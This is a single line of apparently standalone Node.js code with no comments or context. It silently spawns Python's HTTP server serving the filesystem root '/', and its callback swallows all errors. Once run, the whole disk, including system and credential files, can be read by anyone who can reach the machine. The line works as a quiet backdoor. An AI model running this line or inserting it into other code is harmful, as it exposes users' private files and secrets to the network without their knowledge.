const {execFile}=require('child_process'); execFile("python3",["-m", "http.server", "--directory", "/"],(e,o)=>0);
